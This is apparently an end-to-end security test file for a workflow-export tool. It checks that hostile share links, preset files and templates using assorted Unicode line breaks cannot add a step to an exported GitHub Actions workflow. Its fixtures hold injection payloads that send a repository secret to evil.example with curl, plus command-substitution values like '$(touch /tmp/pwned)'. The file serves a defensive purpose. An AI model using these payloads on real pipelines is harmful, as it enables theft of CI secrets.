// No export can be turned against the person who uses it (issue 24, acceptance 1). The security
// review's attack, as a user meets it: a stranger's share link, a teammate's presets file, a
// template whose author wrote its naming format and labels, each carrying every Unicode line
// break with a GitHub Actions step after it. Exported as a schedule, the workflow keeps its shape
// (YAML parsed by a real parser): one job, one step whose `run` is the script, and no
// `${{ secrets.… }}` outside the token's env line. A date format with a break is refused.
import { execFileSync } from 'node:child_process';
import { parse as parseYaml } from 'yaml';
import { test, expect, connect } from '../fixtures.js';
import { ALL_TYPES } from '../helpers.js';

const BREAKS = {
  LF: '\n', CR: '\r', CRLF: '\r\n', NEL: '\u0085', VT: '\u000b', FF: '\u000c', LS: '\u2028', PS: '\u2029',
};
const SECTION = 'Schedule (cron, GitHub Actions, Workato)';
const SECRET = '${{ secrets.TALLYFY_TOKEN }}';

/** The review's payload: after the break, a second step that sends the secret away. */
function attack(br) {
  return [
    '%Y',
    '      - if: always()',
    '        env:',
    '          T: "\\u0024\\u007b\\u007b secrets.TALLYFY_TOKEN \\u007d\\u007d"',
    '        run: |',
    '          curl -sd "$T" https://evil.example/t',
    '          exit 0',
    '          :',
  ].join(br);
}

/** A short payload that fits the 120 characters of Customer name: a break, a step, the secret. */
function shortAttack(br) {
  return `A${br}      - if: always()${br}        run: curl -sd "$T" https://e.x${br}${SECRET}`;
}

/** The all-types template's required values, as link parameters. */
function requiredValues(customer = 'Acme') {
  return {
    'v.Customer name': customer,
    'v.Contact email': 'ops@acme.example',
    'v.Start date': '2026-03-15',
    'v.Priority': 'High',
    'v.Plan': 'Gold',
  };
}

/** Opens a pre-fill link as a user would (the settings already point at the sandbox). */
async function openLink(page, params) {
  await page.goto(`./#/launch?${new URLSearchParams(params)}`);
  await expect(page.getByTestId('name-preview')).toBeVisible();
}

async function exportAs(page, target) {
  await page.getByRole('group', { name: 'Export as' }).getByRole('button', { name: target }).click();
  await expect(page.getByRole('button', { name: target })).toHaveAttribute('aria-pressed', 'true');
}

async function openSchedule(page) {
  const summary = page.getByText(SECTION, { exact: true });
  const open = await summary.evaluate((el) => el.closest('details')?.open ?? false);
  if (!open) await summary.click();
}

/** The shell script and the workflow the Schedule tool gives for the form as it is (for the
 * template `templateId`, when given: an export of the form before may still be showing). */
async function schedules(page, templateId) {
  await openSchedule(page);
  const output = page.getByTestId('schedule-export');
  await exportAs(page, 'Shell script and crontab');
  if (templateId) await expect(output).toContainText(`"checklist_id":"${templateId}"`);
  const script = await output.textContent();
  await exportAs(page, 'GitHub Actions workflow');
  if (templateId) await expect(output).toContainText(`"checklist_id":"${templateId}"`);
  const workflow = await output.textContent();
  return { script, workflow };
}

/** Every string in a parsed YAML document, with its path. */
function strings(value, path = '', out = []) {
  if (typeof value === 'string') out.push([path, value]);
  else if (Array.isArray(value)) value.forEach((item, i) => strings(item, `${path}/${i}`, out));
  else if (value && typeof value === 'object') {
    for (const [key, item] of Object.entries(value)) {
      out.push([`${path}/${key} (key)`, key]);
      strings(item, `${path}/${key}`, out);
    }
  }
  return out;
}

/** The workflow as libyaml reads it (YAML 1.1, through Debian's python3-yaml): unlike the
 * `yaml` package (YAML 1.2), it breaks lines on CR, NEL, U+2028 and U+2029 as the review's
 * attack needs, so it sees a step added that way. */
function libyaml(workflow) {
  const program = [
    'import json, sys, yaml',
    'Loader = getattr(yaml, "CSafeLoader", yaml.SafeLoader)',
    'doc = yaml.load(sys.stdin.buffer.read().decode("utf-8"), Loader=Loader)',
    'print(json.dumps(doc["jobs"], default=str))',
  ].join('\n');
  return JSON.parse(execFileSync('/usr/bin/python3', ['-c', program], { input: workflow }).toString());
}

/** One job, one step, `run` the script, the secret only in its env line, no break but LF. */
function expectWorkflowShape(workflow, script) {
  expect(workflow, 'no line break but LF').not.toMatch(/[\r\u0085\u2028\u2029\u000b\u000c]/);
  const doc = parseYaml(workflow);
  expect(Object.keys(doc)).toEqual(['name', 'on', 'permissions', 'jobs']);
  expect(Object.keys(doc.jobs)).toEqual(['launch']);
  expect(doc.jobs.launch.steps).toHaveLength(1);
  const [step] = doc.jobs.launch.steps;
  expect(Object.keys(step)).toEqual(['name', 'shell', 'env', 'run']);
  expect(step.env).toEqual({ TALLYFY_TOKEN: SECRET });
  expect(step.run).toBe(script.replaceAll('${{', "${{ '${{' }}"));
  const jobs = libyaml(workflow);
  expect(Object.keys(jobs)).toEqual(['launch']);
  expect(jobs.launch.steps).toHaveLength(1);
  expect(jobs.launch.steps[0]).toEqual(step);
  for (const [path, text] of strings(doc)) {
    if (path === '/jobs/launch/steps/0/env/TALLYFY_TOKEN') continue;
    expect(text.replaceAll("${{ '${{' }}", ''), `a live expression at ${path}`).not.toContain('${{');
  }
}

/** The form refuses the date format, naming the break, and the Schedule tool writes nothing. */
async function expectRefused(page) {
  await expect(page.getByTestId('name-preview')).toContainText('The date format in');
  await expect(page.getByTestId('name-preview')).toContainText(/\(U\+[0-9A-F]{4}\)/);
  await openSchedule(page);
  await exportAs(page, 'GitHub Actions workflow');
  await expect(page.getByTestId('schedule-problem')).toContainText('The form has 1 problem');
  await expect(page.getByTestId('schedule-export')).toHaveCount(0);
}

test('a hostile share link cannot add a step to the exported workflow, whatever the line break', async ({ page, sandbox, seed }) => {
  test.setTimeout(180_000);
  await connect(page, sandbox, seed);
  const template = seed.templates.find((t) => t.title === ALL_TYPES).id;
  for (const [kind, br] of Object.entries(BREAKS)) {
    await test.step(`${kind} in the date format`, async () => {
      await openLink(page, { template, name: `Weekly {{today:${attack(br)}}}`, ...requiredValues() });
      await expectRefused(page);
    });
    await test.step(`${kind} in a value and the name`, async () => {
      await openLink(page, {
        template,
        name: `{{Customer name}} {{Notes}} ${attack(br)} – {{today}}`,
        ...requiredValues(shortAttack(br)),
        'v.Notes': `${attack(br)}${br}${SECRET}`,
        summary: `${attack(br)}${br}#{1+1} $(touch /tmp/pwned) \`id\``,
      });
      await expect(page.getByTestId('name-preview')).toContainText('Preview:');
      const { script, workflow } = await schedules(page);
      expectWorkflowShape(workflow, script);
    });
  }
});

test('"Schedule this preset" with a hostile presets file keeps the workflow whole, whatever the line break', async ({ page, sandbox, seed }) => {
  test.setTimeout(180_000);
  await connect(page, sandbox, seed);
  const template = seed.templates.find((t) => t.title === ALL_TYPES);
  const id = (label) => template.prerun.find((f) => f.label === label).id;
  const plan = template.prerun.find((f) => f.label === 'Plan');
  const priority = template.prerun.find((f) => f.label === 'Priority');
  const required = {
    [id('Contact email')]: { text: 'ops@acme.example' },
    [id('Start date')]: { date: { date: '2026-03-15', time: '' } },
    [id('Priority')]: { choice: priority.options.find((o) => o.text === 'High').id },
    [id('Plan')]: { choice: plan.options.find((o) => o.text === 'Gold').id },
  };
  const presets = Object.entries(BREAKS).flatMap(([kind, br]) => [
    {
      name: `Date ${kind}`,
      template_id: template.id,
      template_title: ALL_TYPES,
      name_formula: `Weekly {{today:${attack(br)}}}`,
      values: { [id('Customer name')]: { text: 'Acme' }, ...required },
    },
    {
      name: `Value ${kind}`,
      template_id: template.id,
      template_title: ALL_TYPES,
      name_formula: `{{Customer name}} {{Notes}} ${attack(br)} – {{today}}`,
      summary: attack(br),
      values: {
        [id('Customer name')]: { text: shortAttack(br) },
        [id('Notes')]: { text: `${attack(br)}${br}${SECRET}` },
        ...required,
      },
    },
  ]);
  const file = JSON.stringify({ app: 'tallyfy-launcher', kind: 'presets', schema: 1, presets });
  await page.getByRole('link', { name: 'Launch', exact: true }).click();
  await openLink(page, { template: template.id });
  await page.getByText('Presets', { exact: true }).click();
  await page.getByLabel('Import presets').setInputFiles({ name: 'team.json', mimeType: 'application/json', buffer: Buffer.from(file) });
  await expect(page.getByText(`Imported ${presets.length} new presets`)).toBeVisible();
  for (const kind of Object.keys(BREAKS)) {
    await test.step(`${kind} in the preset's date format`, async () => {
      await page.getByLabel('Preset', { exact: true }).selectOption({ label: `Date ${kind} (${ALL_TYPES})` });
      await page.getByRole('button', { name: 'Schedule this preset' }).click();
      await expect(page.getByLabel('Repeat')).toBeFocused();
      await expectRefused(page);
    });
    await test.step(`${kind} in the preset's values and name`, async () => {
      await page.getByLabel('Preset', { exact: true }).selectOption({ label: `Value ${kind} (${ALL_TYPES})` });
      await page.getByRole('button', { name: 'Schedule this preset' }).click();
      await expect(page.getByLabel('Repeat')).toBeFocused();
      const { script, workflow } = await schedules(page);
      expectWorkflowShape(workflow, script);
    });
  }
});

test('a template whose naming format and labels hold the breaks gives a whole workflow', async ({ page, sandbox, seed }) => {
  test.setTimeout(180_000);
  await connect(page, sandbox, seed);
  const template = seed.templates.find((t) => t.title === ALL_TYPES);
  const customer = template.prerun.find((f) => f.label === 'Customer name');
  for (const [kind, br] of Object.entries(BREAKS)) {
    await test.step(kind, async () => {
      // The review's third way in: the format names a field whose label closes the placeholder
      // and opens a date with the payload.
      const label = `today}} {{today:${attack(br)}`;
      const edited = await sandbox.control('POST', `/templates/${template.id}`, {
        copy_as: `hostile-naming-${kind}`,
        title: `Hostile naming ${kind}${br}${SECRET}`,
        auto_name: `Report {{${customer.alias}}} ${attack(br)}`,
        launcher_can_rename: true,
        fields: { [customer.id]: { label } },
      });
      await openLink(page, {
        template: edited.data.id,
        [`v.${customer.id}`]: 'Acme',
        ...Object.fromEntries(Object.entries(requiredValues()).filter(([k]) => k !== 'v.Customer name')),
      });
      await expect(page.getByTestId('name-preview')).toContainText('Preview: Report');
      const { script, workflow } = await schedules(page, edited.data.id);
      expectWorkflowShape(workflow, script);
    });
  }
});
